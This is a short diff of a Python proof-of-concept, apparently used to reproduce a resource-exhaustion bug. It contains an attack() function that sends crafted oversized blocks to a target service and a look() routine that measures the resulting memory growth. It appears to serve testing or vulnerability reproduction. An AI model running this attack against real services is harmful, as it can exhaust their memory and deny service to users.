@@ -28,7 +28,6 @@ GREW_MIB = 32
 
 
 def attack(target: Target) -> None:
-    """Send all of each but the last block, and do so again."""
     link = target.joined()
     drained(link.socket)
     block = _zeros()
@@ -50,20 +49,13 @@ def _zeros() -> bytes:
     return b"\x1f\0\1\0" + b"\xff" * more + bytes([rest]) + b"\x50" + bytes(5)
 
 
-def look(target: Target) -> list[str]:
-    """Serve meanwhile, and see what that takes."""
-    return asyncio.run(_look(target))
-
-
 class Sink(tw.Service):
-    """It takes what comes."""
-
     @tw.method
     async def take(self, value: object) -> None:
         """Take it."""
 
 
-async def _look(target: Target) -> list[str]:
+async def look(target: Target) -> list[str]:
     links = {"payload_bytes": PAYLOAD_BYTES}
     async with tw.Node(target.tide, name="sink", token=TOKENS["good"], config={"links": links}) as node:
         Path("/proc/self/clear_refs").write_text("5")
